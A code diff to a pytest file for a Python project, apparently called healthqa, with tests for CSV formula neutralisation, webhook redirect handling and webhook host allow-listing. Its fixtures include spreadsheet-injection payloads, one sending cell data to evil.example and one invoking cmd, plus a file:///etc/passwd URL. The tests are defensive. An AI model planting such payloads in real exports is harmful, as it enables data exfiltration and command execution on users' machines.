@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import os
 import re
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -15,7 +16,6 @@ from pathlib import Path
 import pytest
 
 import healthqa
-from healthqa import csvfile
 from healthqa.dedup.merge import Merge, write_all, write_csv
 from healthqa.errors import ConfigError
 from healthqa.reports import publish
@@ -28,6 +28,8 @@ ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")", "=cmd|' /C cal
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
+    from healthqa import csvfile
+
     buf = io.StringIO()
     w = csvfile.DictWriter(buf, fieldnames=["v", "n"])
     w.writeheader()
@@ -60,14 +62,14 @@ def test_the_findings_export_and_merge_instructions_carry_no_formula(tmp_path):
 
 def test_every_csv_the_project_writes_goes_through_the_one_writer():
     root = Path(healthqa.__file__).parent
-    offenders = []
-    for path in root.rglob("*.py"):  # the rooms are linked under healthqa/: rglob follows them
-        if path.name == "csvfile.py":
-            continue
-        text = path.read_text(encoding="utf-8")
-        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", text):
-            offenders.append(str(path.relative_to(root)))
-    assert offenders == []
+    offenders, seen = [], 0
+    for folder, _, names in os.walk(root, followlinks=True):  # the rooms are links under healthqa/
+        for name in names:
+            if name.endswith(".py") and name != "csvfile.py":
+                seen += 1
+                if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", (Path(folder) / name).read_text(encoding="utf-8")):
+                    offenders.append(name)
+    assert seen > 100 and offenders == []
 
 
 class Redirector:
@@ -93,7 +95,7 @@ class Redirector:
         self.url = f"http://127.0.0.1:{self.server.server_port}/hook"
 
 
-@pytest.mark.parametrize("code", [301, 302, 307, 308])
+@pytest.mark.parametrize("code", [301, 302, 303])  # urllib would follow these (307/308: never for a POST)
 def test_the_webhook_follows_no_redirect(code):
     elsewhere = Receiver()
     hop = Redirector(elsewhere.url, code)
@@ -121,7 +123,7 @@ def test_the_webhook_goes_only_to_allowed_hosts_over_http():
 @pytest.mark.parametrize("webhook, key", [
     ("{url: 'file:///etc/passwd'}", "reports.webhook.url"),
     ("{url: 'ftp://tickets.zh.example/in'}", "reports.webhook.url"),
-    ("{url: 'https://evil.example/hook', allowed_hosts: [tickets.zh.example]}", "allowed_hosts"),
+    ("{url: 'https://evil.example/hook', allowed_hosts: [tickets.zh.example]}", "'evil.example' is not in reports.webhook.allowed_hosts"),
 ])
 def test_a_webhook_url_that_is_not_allowed_is_a_config_error_naming_the_key(tmp_path, monkeypatch, webhook, key):
     monkeypatch.setenv("MPI_DB_URL", "sqlite:///mpi.db")
